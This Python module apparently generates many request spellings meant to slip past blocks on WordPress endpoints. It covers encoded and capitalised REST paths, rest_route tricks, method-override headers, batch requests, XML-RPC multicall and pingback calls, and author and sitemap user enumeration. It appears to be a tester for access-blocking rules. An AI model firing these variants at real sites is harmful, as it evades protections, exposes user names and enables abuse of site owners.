"""Ways to a closed door of a WordPress site: the spellings of routes, pages and scripts, by preset."""

import json

from attacks import JSON, form, get, multipart, part
from wire import Request

XML = ("Content-Type", "text/xml")


def spellings(route):
    """A read of `route`, such as `wp/v2/users`, in every spelling, by name."""
    slashed, upper = f"/{route}", route.upper()
    first, rest = route.split("/", 1)
    yield "the path", get(f"/wp-json/{route}")
    yield "a slash behind", get(f"/wp-json/{route}/")
    yield "capitals", get(f"/wp-json/{upper}")
    yield "encoded letters", get(f"/wp-json/%{ord(first[0]):x}{first[1:]}/{rest}")
    yield "encoded slashes", get(f"/wp-json/{route.replace('/', '%2F')}")
    yield "a line feed behind", get(f"/wp-json/{route}%0A")
    yield "double slashes", get(f"//wp-json//{route.replace('/', '//')}")
    yield "behind index.php", get(f"/index.php/wp-json/{route}")
    yield "a query", get(f"/wp-json/{route}?per_page=1&context=view")
    yield "an envelope", get(f"/wp-json/{route}?_envelope=1")
    yield "rest_route", get(f"/?rest_route={slashed}")
    yield "rest_route, encoded", get(f"/?rest%5Froute={slashed.replace('/', '%2F')}")
    yield "rest_route, written with a point", get(f"/?rest.route={slashed}")
    yield "rest_route, capitals", get(f"/?rest_route=/{upper}")
    yield "rest_route, double slashes", get(f"/?rest_route=/{slashed}")
    yield "rest_route on a page", get(f"/hello-world/?rest_route={slashed}")
    yield "rest_route against the path", get(f"/wp-json/wp/v2/types?rest_route={slashed}")
    yield "rest_route twice", get(f"/?rest_route=/wp/v2/types&rest_route={slashed}")
    yield "rest_route, index.php", get(f"/index.php?rest_route={slashed}")
    yield "rest_route, another script", get(f"/wp-blog-header.php?rest_route={slashed}")
    yield "a form", form("/?_method=GET", f"rest_route={slashed}")
    yield "a form, the method inside", form("/", f"rest_route={slashed}&_method=GET")
    yield "a form beside the path", form("/wp-json/wp/v2/types?_method=GET", f"rest_route={slashed}")
    yield "a form of parts", multipart(part('name="rest_route"', slashed), part('name="_method"', "GET"))
    yield "HEAD", Request("HEAD", f"/wp-json/{route}")
    yield "an override by a header", Request("POST", f"/wp-json/{route}", [("X-HTTP-Method-Override", "GET")])
    yield "an override by the query", Request("POST", f"/wp-json/{route}?_method=GET")
    yield "an override by a form", form(f"/wp-json/{route}", "_method=GET")


def batch(*paths, headers=(), method="POST", validation="normal"):
    """A batch with one entry for each path."""
    entries = [{"path": path, "method": method, "body": {"title": "batched", "username": "x"}} for path in paths]
    body = json.dumps({"validation": validation, "requests": entries})
    return Request("POST", "/wp-json/batch/v1", [JSON, *headers], body.encode())


def batches(route):
    """Batches that hold a write of a route, by name."""
    slashed, other = f"/{route}", "/wp/v2/posts"
    yield "an entry", batch(slashed)
    yield "an entry in capitals", batch(slashed.upper())
    yield "an entry with a query", batch(f"{slashed}?context=edit")
    yield "behind another entry", batch(other, slashed)
    yield "validated first", batch(other, slashed, validation="require-all-validate")
    yield "behind a path that cannot be read", batch("http:///", other, slashed)


def presets():
    """Every preset, and the spellings of its doors by name."""
    return {
        "users": [*spellings("wp/v2/users"), *spellings("wp/v2/users/1"), *pages_of_users()],
        "batch": [*batch_spellings(), *batches("wp/v2/posts")],
        "xmlrpc-multicall": list(xml_rpc("system.multicall", "pingback.ping")),
        "xmlrpc": list(xml_rpc("demo.sayHello", "wp.getUsersBlogs")),
        "tec/v1": [*spellings("tec/v1/events"), *spellings("tec/v1/events/1")],
        "tickets": [*spellings("tribe/tickets/v1/attendees"), *spellings("tribe/tickets/v1/tickets/1")],
    }


def pages_of_users():
    """Pages that tell the names of users."""
    for target in ("/?author=1", "/?%61uthor=1", "/?author[]=1", "/hello-world/?x=1&author=1", "/index.php?author=1", "/?+author=1",
                   "/wp-sitemap-users-1.xml", "/wp-sitemap%2Dusers-1.xml", "/?sitemap=users&paged=1"):
        yield target, get(target)
    yield "author in a form", form("/", "author=1")
    yield "author in a form of parts", multipart(part('name="author"', "1"))


def batch_spellings():
    """An empty batch, in every spelling that a request with JSON can have."""
    body = json.dumps({"requests": []}).encode()
    for target in ("/wp-json/batch/v1", "/wp-json/batch/v1/", "/wp-json/BATCH/V1", "/wp-json/%62atch/v1", "/wp-json/batch%2Fv1", "/wp-json/batch/v1%0A",
                   "//wp-json//batch//v1", "/index.php/wp-json/batch/v1", "/?rest_route=/batch/v1", "/?rest%5Froute=%2Fbatch%2Fv1", "/?rest.route=/batch/v1",
                   "/wp-json/wp/v2/types?rest_route=/batch/v1", "/wp-blog-header.php?rest_route=/batch/v1", "/wp-json/batch/v1?_method=POST"):
        yield target, Request("POST", target, [JSON], body)
    yield "an override", Request("GET", "/wp-json/batch/v1", [JSON, ("X-HTTP-Method-Override", "POST")], body)
    yield "an override by the query", Request("GET", "/wp-json/batch/v1?_method=POST", [JSON], body)
    yield "the route in a form", form("/", "rest_route=/batch/v1&requests[0][path]=/wp/v2/posts")
    yield "the list in a form", form("/wp-json/batch/v1", "requests[0][path]=/wp/v2/posts&requests[0][body][title]=x")


def xml_rpc(*methods):
    """Calls of methods to `xmlrpc.php`, with and without the prolog."""
    for method in methods:
        for prolog in ('<?xml version="1.0"?>', "", "\n<!-- x -->"):
            body = f"{prolog}<methodCall><methodName>{method}</methodName><params></params></methodCall>".encode()
            for target in ("/xmlrpc.php", "//xmlrpc.php", "/xmlrpc.php?rsd", "/xmlrpc%2Ephp", "/xmlrpc.php/x"):
                yield f"{method} at {target}, {prolog!r}", Request("POST", target, [XML], body)
